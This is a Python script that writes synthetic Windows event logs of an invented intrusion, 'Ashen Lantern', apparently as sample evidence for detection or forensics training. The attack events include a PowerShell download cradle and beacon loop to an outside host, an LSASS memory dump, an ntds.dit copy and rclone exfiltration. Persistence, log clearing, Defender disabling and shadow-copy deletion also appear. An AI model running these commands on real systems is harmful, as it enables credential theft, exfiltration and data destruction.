"""Write the example event logs of the Ashen Lantern intrusion (examples/evidence/*.jsonl).

The intrusion is the one told in examples/evidence/report-ashen-lantern.md; every host, account, address
and hash is invented. Events are JSON lines in the flat shape of Windows event exports (NXLog / OTRF style:
System fields ``EventID``, ``Channel``, ``Hostname``, ``TimeCreated`` next to the event's data fields),
for the Sysmon, Security, System and PowerShell channels, with benign background activity around the
attack. Deterministic: the same seed gives the same files.

    python examples/make_evidence.py            # rewrites examples/evidence/<host>.jsonl
"""

from __future__ import annotations

import base64
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

OUT = Path(__file__).resolve().parent / "evidence"
SEED = 20240916
DOMAIN = "NWL"
FQDN = "nwl.local"
HOSTS = {"WS-FIN-07": "10.20.4.57", "WS-HR-03": "10.20.4.31", "FS01": "10.20.1.12", "DC01": "10.20.1.5"}
USERS = {"WS-FIN-07": "jdoe", "WS-HR-03": "asmith", "FS01": "svc_backup", "DC01": "svc_backup"}
START = datetime(2024, 9, 16, 6, 0, tzinfo=timezone.utc)
END = datetime(2024, 9, 17, 6, 0, tzinfo=timezone.utc)

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
SYSTEM = ("Service Control Manager", "System")
POWERSHELL = ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational")

rng = random.Random(SEED)
events: dict[str, list[dict]] = {h: [] for h in HOSTS}
pids: dict[tuple[str, str], int] = {}


def guid() -> str:
    h = "%032x" % rng.getrandbits(128)
    return "{%s-%s-%s-%s-%s}" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def pid() -> int:
    return rng.randrange(600, 12000, 4)


def emit(host: str, t: datetime, source: tuple[str, str], event_id: int, message: str, **data) -> None:
    record = {
        "SourceName": source[0], "Channel": source[1], "Hostname": f"{host}.{FQDN}", "Computer": f"{host}.{FQDN}",
        "TimeCreated": t.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "@timestamp": t.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "EventID": event_id, "Level": "4", "Message": message,
    }
    if source is SYSMON:
        data.setdefault("UtcTime", t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}")
    record.update({k: (str(v) if isinstance(v, (int, float)) and k not in ("EventID",) else v) for k, v in data.items()})
    events[host].append(record)


def process(host: str, t: datetime, image: str, cmd: str, parent: str, parent_cmd: str, user: str | None = None,
            integrity: str = "Medium", security: bool = True) -> int:
    """A process start as Sysmon 1 and (when audited) Security 4688."""
    user = user or USERS[host]
    new_pid = pid()
    parent_pid = pids.get((host, parent.lower()), pid())
    pids[(host, image.lower())] = new_pid
    name = image.rsplit("\\", 1)[-1]
    emit(host, t, SYSMON, 1, f"Process Create:\r\nImage: {image}\r\nCommandLine: {cmd}",
         RuleName="-", ProcessGuid=guid(), ProcessId=new_pid, Image=image, OriginalFileName=name,
         Description=name, Product="Microsoft® Windows® Operating System", Company="Microsoft Corporation",
         CommandLine=cmd, CurrentDirectory=f"C:\\Users\\{user}\\", User=f"{DOMAIN}\\{user}",
         LogonGuid=guid(), LogonId=hex(rng.getrandbits(24)), TerminalSessionId=1, IntegrityLevel=integrity,
         Hashes="SHA256=%064X" % rng.getrandbits(256), ParentProcessGuid=guid(), ParentProcessId=parent_pid,
         ParentImage=parent, ParentCommandLine=parent_cmd, ParentUser=f"{DOMAIN}\\{user}")
    if security:
        emit(host, t + timedelta(milliseconds=3), SECURITY, 4688, "A new process has been created.",
             SubjectUserSid="S-1-5-21-1004336348-1177238915-682003330-%d" % rng.randrange(1100, 1900),
             SubjectUserName=user, SubjectDomainName=DOMAIN, SubjectLogonId=hex(rng.getrandbits(24)),
             NewProcessId=hex(new_pid), NewProcessName=image, TokenElevationType="%%1938", ProcessId=hex(parent_pid),
             CommandLine=cmd, TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-", TargetLogonId="0x0",
             ParentProcessName=parent, MandatoryLabel="S-1-16-8192" if integrity == "Medium" else "S-1-16-12288")
    return new_pid


def network(host: str, t: datetime, image: str, dest_ip: str, port: int, dest_host: str = "") -> None:
    emit(host, t, SYSMON, 3, "Network connection detected.", RuleName="-", ProcessGuid=guid(),
         ProcessId=pids.get((host, image.lower()), pid()), Image=image, User=f"{DOMAIN}\\{USERS[host]}",
         Protocol="tcp", Initiated="true", SourceIsIpv6="false", SourceIp=HOSTS[host], SourceHostname=f"{host}.{FQDN}",
         SourcePort=rng.randrange(49152, 65535), DestinationIsIpv6="false", DestinationIp=dest_ip,
         DestinationHostname=dest_host, DestinationPort=port, DestinationPortName="https" if port == 443 else "")


def dns(host: str, t: datetime, image: str, name: str, answer: str) -> None:
    emit(host, t, SYSMON, 22, "Dns query:", RuleName="-", ProcessGuid=guid(),
         ProcessId=pids.get((host, image.lower()), pid()), QueryName=name, QueryStatus="0",
         QueryResults=f"::ffff:{answer};", Image=image, User=f"{DOMAIN}\\{USERS[host]}")


def file_create(host: str, t: datetime, image: str, target: str) -> None:
    emit(host, t, SYSMON, 11, "File created:", RuleName="-", ProcessGuid=guid(),
         ProcessId=pids.get((host, image.lower()), pid()), Image=image, TargetFilename=target,
         CreationUtcTime=t.strftime("%Y-%m-%d %H:%M:%S.000"), User=f"{DOMAIN}\\{USERS[host]}")


def logon(host: str, t: datetime, user: str, logon_type: int, source_ip: str = "-", workstation: str = "-") -> None:
    emit(host, t, SECURITY, 4624, "An account was successfully logged on.", SubjectUserSid="S-1-0-0",
         SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0", TargetUserSid="S-1-5-21-1004336348-%d" %
         rng.randrange(1000, 9999), TargetUserName=user, TargetDomainName=DOMAIN, TargetLogonId=hex(rng.getrandbits(24)),
         LogonType=logon_type, LogonProcessName="NtLmSsp" if logon_type == 3 else "User32",
         AuthenticationPackageName="NTLM" if logon_type == 3 else "Negotiate", WorkstationName=workstation,
         LogonGuid="{00000000-0000-0000-0000-000000000000}", IpAddress=source_ip, IpPort=rng.randrange(49152, 65535)
         if source_ip != "-" else "-", ImpersonationLevel="%%1833", ElevatedToken="%%1842")


W = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"


def background() -> None:
    """Ordinary activity on every host: services, browsers, Office, logons, DNS, network."""
    benign = [
        (W + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", W + "services.exe"),
        (W + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", W + "svchost.exe"),
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
         "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US", EXPLORER),
        ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument", EXPLORER),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
         "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", EXPLORER),
        (W + "backgroundTaskHost.exe", "\"backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
         W + "svchost.exe"),
        (W + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", W + "cmd.exe"),
        (W + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_",
         W + "SearchIndexer.exe"),
        ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" "
         "SignatureUpdate -ScheduleJob -RestrictPrivileges", W + "svchost.exe"),
        (W + "gpupdate.exe", "gpupdate.exe /target:computer", W + "svchost.exe"),
        (W + "WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\IT\\inventory.ps1", W + "svchost.exe"),
    ]
    sites = [("www.office.com", "52.96.36.162"), ("login.microsoftonline.com", "20.190.151.7"),
             ("teams.microsoft.com", "52.113.194.132"), ("www.google.com", "142.250.185.68"),
             ("outlook.office365.com", "52.97.146.162")]
    for host in HOSTS:
        is_server = host in ("FS01", "DC01")
        n = 140 if is_server else 260
        span = (END - START).total_seconds()
        for _ in range(n):
            t = START + timedelta(seconds=rng.uniform(0, span))
            kind = rng.random()
            if kind < 0.55:
                image, cmd, parent = rng.choice(benign[:2] + benign[5:] if is_server else benign)
                user = "SYSTEM" if parent.endswith(("services.exe", "svchost.exe")) else None
                process(host, t, image, cmd, parent, parent, user=user)
            elif kind < 0.7 and not is_server:
                name, ip = rng.choice(sites)
                dns(host, t, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", name, ip)
                network(host, t + timedelta(milliseconds=40), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                        ip, 443, name)
            elif kind < 0.9:
                src = rng.choice([ip for h, ip in HOSTS.items() if h != host])
                logon(host, t, rng.choice(["asmith", "jdoe", "mlopez", f"{host}$"]), rng.choice([3, 3, 5, 2]), src)
            else:
                file_create(host, t, W + "svchost.exe", f"C:\\Windows\\Temp\\{rng.getrandbits(32):08x}.tmp")


def at(day: int, hh: int, mm: int, ss: int = 0, ms: int = 0) -> datetime:
    return datetime(2024, 9, day, hh, mm, ss, ms * 1000, tzinfo=timezone.utc)


def attack() -> None:
    """The intrusion, step by step as the report tells it."""
    ws, fs, dc = "WS-FIN-07", "FS01", "DC01"
    ps = W + "WindowsPowerShell\\v1.0\\powershell.exe"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
    lure = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7Q2ZP1M\\Invoice_Q3_0916.docm"
    implant = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\msedgeupd.exe"
    # initial access: the lure opened from Outlook, macro starts a shell
    file_create(ws, at(16, 8, 41, 2), outlook, lure)
    process(ws, at(16, 8, 41, 9), word, f"\"{word}\" /n \"{lure}\" /o \"\"", outlook, f"\"{outlook}\"")
    cradle = ("IEX (New-Object Net.WebClient).DownloadString('https://cdn.nwl-filesync.com/update/check.ps1')")
    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
    process(ws, at(16, 8, 42, 15), W + "cmd.exe", f"cmd.exe /c powershell -nop -w hidden -enc {encoded}", word,
            f"\"{word}\" /n \"{lure}\"")
    process(ws, at(16, 8, 42, 16), ps, f"powershell  -nop -w hidden -enc {encoded}", W + "cmd.exe",
            f"cmd.exe /c powershell -nop -w hidden -enc {encoded}")
    emit(ws, at(16, 8, 42, 17), POWERSHELL, 4104, "Creating Scriptblock text (1 of 1):", MessageNumber=1,
         MessageTotal=1, ScriptBlockText=cradle, ScriptBlockId=guid()[1:-1], Path="")
    dns(ws, at(16, 8, 42, 17, 400), ps, "cdn.nwl-filesync.com", "198.51.100.23")
    network(ws, at(16, 8, 42, 17, 600), ps, "198.51.100.23", 443, "cdn.nwl-filesync.com")
    stage2 = ("$u='https://198.51.100.23/api/v2/sync';while($true){try{$r=(New-Object Net.WebClient)"
              ".DownloadString($u);IEX $r}catch{};Start-Sleep -s (Get-Random -Min 50 -Max 70)}")
    emit(ws, at(16, 8, 42, 19), POWERSHELL, 4104, "Creating Scriptblock text (1 of 1):", MessageNumber=1,
         MessageTotal=1, ScriptBlockText=stage2, ScriptBlockId=guid()[1:-1], Path="")
    # beaconing over HTTPS, every ~60 s for the first hour then sparser
    t = at(16, 8, 43, 20)
    while t < at(16, 23, 0):
        network(ws, t, ps, "198.51.100.23", 443)
        t += timedelta(seconds=rng.uniform(50, 70) if t < at(16, 9, 40) else rng.uniform(600, 1500))
    file_create(ws, at(16, 8, 43, 50), ps, implant)
    # persistence
    process(ws, at(16, 8, 44, 31), W + "schtasks.exe",
            f"schtasks /create /sc onlogon /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"{implant}\" /f", ps, "powershell")
    emit(ws, at(16, 8, 44, 31, 200), SECURITY, 4698, "A scheduled task was created.", SubjectUserName="jdoe",
         SubjectDomainName=DOMAIN, TaskName="\\MicrosoftEdgeUpdateTaskCore",
         TaskContent=f"<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>{implant}</Command></Exec>"
                     "</Actions></Task>")
    process(ws, at(16, 8, 45, 3), W + "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
            f"/v OneDriveSync /t REG_SZ /d \"{implant}\" /f", ps, "powershell")
    emit(ws, at(16, 8, 45, 3, 100), SYSMON, 13, "Registry value set:", RuleName="-", EventType="SetValue",
         ProcessGuid=guid(), ProcessId=pids[(ws, (W + "reg.exe").lower())], Image=W + "reg.exe",
         TargetObject="HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion"
                      "\\Run\\OneDriveSync", Details=implant, User=f"{DOMAIN}\\jdoe")
    # discovery burst
    recon = [("whoami.exe", "whoami /all"), ("net.exe", "net group \"domain admins\" /domain"),
             ("nltest.exe", "nltest /domain_trusts"), ("net.exe", "net view"), ("ipconfig.exe", "ipconfig /all"),
             ("systeminfo.exe", "systeminfo")]
    t = at(16, 9, 10, 4)
    for exe, cmd in recon:
        process(ws, t, W + exe, cmd, ps, "powershell")
        t += timedelta(seconds=rng.uniform(8, 40))
    # credential access: LSASS dump through comsvcs.dll
    lsass_pid = 684
    process(ws, at(16, 14, 20, 11), W + "rundll32.exe",
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Users\\Public\\lsass.dmp full",
            ps, "powershell", integrity="High")
    emit(ws, at(16, 14, 20, 11, 300), SYSMON, 10, "Process accessed:", RuleName="-", SourceProcessGUID=guid(),
         SourceProcessId=pids[(ws, (W + "rundll32.exe").lower())], SourceThreadId=rng.randrange(1000, 9000),
         SourceImage=W + "rundll32.exe", TargetProcessGUID=guid(), TargetProcessId=lsass_pid,
         TargetImage=W + "lsass.exe", GrantedAccess="0x1FFFFF",
         CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\comsvcs.dll+22f1b|UNKNOWN(000001D2A4B1)",
         SourceUser=f"{DOMAIN}\\jdoe", TargetUser="NT AUTHORITY\\SYSTEM")
    file_create(ws, at(16, 14, 20, 13), W + "rundll32.exe", "C:\\Users\\Public\\lsass.dmp")
    # lateral movement to FS01 with PsExec and svc_backup
    psexec = "C:\\Users\\Public\\PsExec64.exe"
    process(ws, at(17, 2, 13, 40), psexec, f"{psexec} \\\\FS01 -u {DOMAIN}\\svc_backup -p ******** -accepteula cmd.exe",
            ps, "powershell")
    logon(fs, at(17, 2, 13, 42), "svc_backup", 3, HOSTS[ws], ws)
    emit(fs, at(17, 2, 13, 42, 500), SECURITY, 5140, "A network share object was accessed.", SubjectUserName="svc_backup",
         SubjectDomainName=DOMAIN, ObjectType="File", IpAddress=HOSTS[ws], IpPort=rng.randrange(49152, 65535),
         ShareName="\\\\*\\ADMIN$", ShareLocalPath="\\??\\C:\\Windows", AccessMask="0x1")
    emit(fs, at(17, 2, 13, 43), SYSTEM, 7045, "A service was installed in the system.", ServiceName="PSEXESVC",
         ImagePath="%SystemRoot%\\PSEXESVC.exe", ServiceType="user mode service", StartType="demand start",
         AccountName="LocalSystem")
    process(fs, at(17, 2, 13, 44), "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", W + "services.exe",
            W + "services.exe", user="SYSTEM", integrity="System")
    process(fs, at(17, 2, 13, 45), W + "cmd.exe", "\"cmd.exe\"", "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe", user="svc_backup", integrity="High")
    # WMI from FS01 to DC01
    process(fs, at(17, 2, 20, 5), W + "wbem\\WMIC.exe",
            "wmic /node:DC01 process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full "
            "C:\\ProgramData\\temp\\\" q q\"", W + "cmd.exe", "\"cmd.exe\"", user="svc_backup", integrity="High")
    logon(dc, at(17, 2, 20, 6), "svc_backup", 3, HOSTS[fs], fs)
    process(dc, at(17, 2, 20, 7), W + "cmd.exe", "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full "
            "C:\\ProgramData\\temp\" q q", W + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe "
            "-secured -Embedding", user="svc_backup", integrity="High")
    process(dc, at(17, 2, 20, 8), W + "ntdsutil.exe", "ntdsutil  \"ac i ntds\" ifm \"create full C:\\ProgramData\\temp\" "
            "q q", W + "cmd.exe", "cmd.exe /c ntdsutil", user="svc_backup", integrity="High")
    file_create(dc, at(17, 2, 31, 40), W + "ntdsutil.exe", "C:\\ProgramData\\temp\\Active Directory\\ntds.dit")
    file_create(dc, at(17, 2, 31, 41), W + "ntdsutil.exe", "C:\\ProgramData\\temp\\registry\\SYSTEM")
    # collection and exfiltration from FS01
    sevenzip = "C:\\ProgramData\\7z.exe"
    process(fs, at(17, 3, 5, 12), sevenzip, f"{sevenzip} a -pN0rthw1nd! -mhe=on C:\\ProgramData\\fin.7z "
            "D:\\Shares\\Finance\\*", W + "cmd.exe", "\"cmd.exe\"", user="svc_backup", integrity="High")
    file_create(fs, at(17, 3, 31, 55), sevenzip, "C:\\ProgramData\\fin.7z")
    rclone = "C:\\ProgramData\\rclone.exe"
    process(fs, at(17, 3, 40, 2), rclone, f"{rclone} copy C:\\ProgramData\\fin.7z mega:backup --config "
            "C:\\ProgramData\\rc.conf --transfers 8 -q", W + "cmd.exe", "\"cmd.exe\"", user="svc_backup",
            integrity="High")
    for i in range(24):
        network(fs, at(17, 3, 40, 5) + timedelta(seconds=60 * i + rng.uniform(0, 20)), rclone,
                rng.choice(["31.216.145.5", "31.216.144.5", "89.44.169.135"]), 443, "g.api.mega.co.nz")
    # defense evasion and impact preparation
    for host, t0 in ((ws, at(17, 4, 8, 30)), (fs, at(17, 4, 10, 2))):
        process(host, t0, ps, "powershell -nop -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
                W + "cmd.exe", "\"cmd.exe\"", user="svc_backup", integrity="High")
        process(host, t0 + timedelta(seconds=20), W + "wevtutil.exe", "wevtutil cl Security", W + "cmd.exe",
                "\"cmd.exe\"", user="svc_backup", integrity="High")
        emit(host, t0 + timedelta(seconds=20, milliseconds=400), SECURITY, 1102, "The audit log was cleared.",
             SubjectUserSid="S-1-5-21-1004336348-1177238915-682003330-1190", SubjectUserName="svc_backup",
             SubjectDomainName=DOMAIN, SubjectLogonId=hex(rng.getrandbits(24)))
    process(fs, at(17, 4, 15, 9), W + "vssadmin.exe", "vssadmin delete shadows /all /quiet", W + "cmd.exe",
            "\"cmd.exe\"", user="svc_backup", integrity="High")


def main() -> None:
    background()
    attack()
    OUT.mkdir(parents=True, exist_ok=True)
    for host, recs in events.items():
        recs.sort(key=lambda r: (r["TimeCreated"], r["EventID"]))
        path = OUT / f"{host.lower()}.jsonl"
        with path.open("w", encoding="utf-8", newline="\n") as fh:
            for rec in recs:
                fh.write(json.dumps(rec, ensure_ascii=False) + "\n")
        print(f"{path.name}: {len(recs)} events")


if __name__ == "__main__":
    main()
